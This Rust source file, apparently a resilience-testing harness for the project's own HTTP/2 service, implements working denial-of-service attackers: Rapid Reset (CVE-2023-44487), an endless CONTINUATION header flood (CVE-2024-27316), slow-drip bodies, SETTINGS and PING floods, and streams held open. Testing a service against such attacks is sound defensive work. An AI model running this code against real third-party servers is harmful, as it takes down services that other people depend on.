//! Attackers that speak HTTP/2: each on one connection, until the service closes it.

use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt as _, WriteHalf, sink};

use crate::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame, get,
    post, preface, whole,
};

/// How many streams a connection opens that are not finished: as many as it may.
const STREAMS: u32 = 100;

/// How many frames of a flood are written at once.
const BATCH: u32 = 100;

/// How often a slow body goes on by a byte.
const DRIP: Duration = Duration::from_secs(1);

/// What an attacker does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// A head that goes on in CONTINUATION frames (CVE-2024-27316).
    Continuation,
    /// Bodies that come one byte a second.
    SlowBodies,
    /// SETTINGS, each of which has to be acknowledged.
    Settings,
    /// PING, each of which has to be answered.
    Pings,
    /// Streams that are opened, and never finished.
    OpenStreams,
}

impl Attack {
    /// Each of them.
    pub const ALL: [Attack; 6] = [
        Attack::RapidReset,
        Attack::Continuation,
        Attack::SlowBodies,
        Attack::Settings,
        Attack::Pings,
        Attack::OpenStreams,
    ];

    /// Whether it costs its attacker next to nothing, so that many connections are the attack.
    pub fn is_slow(self) -> bool {
        matches!(self, Attack::SlowBodies | Attack::OpenStreams)
    }

    /// Attacks on a new connection, and reads all that comes, until the service closes it. `frames` counts what was sent.
    pub async fn run<S>(self, stream: S, frames: &AtomicU64)
    where
        S: AsyncRead + AsyncWrite,
    {
        let (mut reader, writer) = tokio::io::split(stream);
        let attacker = Attacker { writer, frames };
        let mut nothing = sink();
        tokio::select! {
            // Closed, each.
            _ = tokio::io::copy(&mut reader, &mut nothing) => {}
            _ = attacker.run(self) => {}
        }
    }
}

struct Attacker<'a, S> {
    writer: WriteHalf<S>,
    frames: &'a AtomicU64,
}

impl<S: AsyncWrite> Attacker<'_, S> {
    async fn send(&mut self, count: u32, bytes: &[u8]) -> std::io::Result<()> {
        self.writer.write_all(bytes).await?;
        self.writer.flush().await?;
        self.frames.fetch_add(count.into(), Ordering::Relaxed);
        Ok(())
    }

    async fn run(mut self, attack: Attack) -> std::io::Result<()> {
        self.send(1, &preface()).await?;
        match attack {
            Attack::RapidReset => self.rapid_reset().await,
            Attack::Continuation => self.continuation().await,
            Attack::SlowBodies => self.slow_bodies().await,
            Attack::Settings => self.flood(&frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])).await,
            Attack::Pings => self.flood(&frame(PING, 0, 0, &[1; 8])).await,
            Attack::OpenStreams => {
                self.open_streams().await?;
                std::future::pending().await
            }
        }
    }

    async fn flood(&mut self, frame: &[u8]) -> std::io::Result<()> {
        let batch = frame.repeat(usize::try_from(BATCH).unwrap());
        loop {
            self.send(BATCH, &batch).await?;
        }
    }

    async fn rapid_reset(&mut self) -> std::io::Result<()> {
        let cancel = 8_u32.to_be_bytes();
        for number in 0.. {
            let stream = 2 * number + 1;
            let request = whole(stream, "", "/v1/revocations?wait=60s");
            let taken_back = frame(RST_STREAM, 0, stream, &cancel);
            self.send(2, &[request, taken_back].concat()).await?;
        }
        Ok(())
    }

    /// One field of a gigabyte, so that all of it is a valid head so far.
    async fn continuation(&mut self) -> std::io::Result<()> {
        let mut block = get("", "/healthz");
        block.extend_from_slice(&[0x00, 1, b'x', 0x7f, 0x81, 0xff, 0xff, 0xff, 0x03]);
        self.send(1, &frame(HEADERS, END_STREAM, 1, &block)).await?;
        self.flood(&frame(CONTINUATION, 0, 1, &[b'a'; 16_000])).await
    }

    async fn open_streams(&mut self) -> std::io::Result<()> {
        let block = post("", "/v1/requests");
        let open = |number| frame(HEADERS, END_HEADERS, 2 * number + 1, &block);
        let all: Vec<u8> = (0..STREAMS).flat_map(open).collect();
        self.send(STREAMS, &all).await
    }

    async fn slow_bodies(&mut self) -> std::io::Result<()> {
        self.open_streams().await?;
        let byte = |number| frame(DATA, 0, 2 * number + 1, b" ");
        let bytes: Vec<u8> = (0..STREAMS).flat_map(byte).collect();
        loop {
            self.send(STREAMS, &bytes).await?;
            tokio::time::sleep(DRIP).await;
        }
    }
}
